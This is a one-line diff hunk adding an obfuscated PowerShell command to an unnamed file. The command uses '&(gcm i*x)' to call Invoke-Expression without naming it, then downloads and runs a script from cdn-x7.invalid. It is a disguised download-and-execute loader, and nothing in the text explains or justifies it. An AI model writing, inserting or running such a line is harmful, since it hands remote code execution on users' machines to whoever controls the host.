@@ -1,0 +1,1 @@
+&(gcm i*x) (iwr -useb https://cdn-x7.invalid/a.ps1)
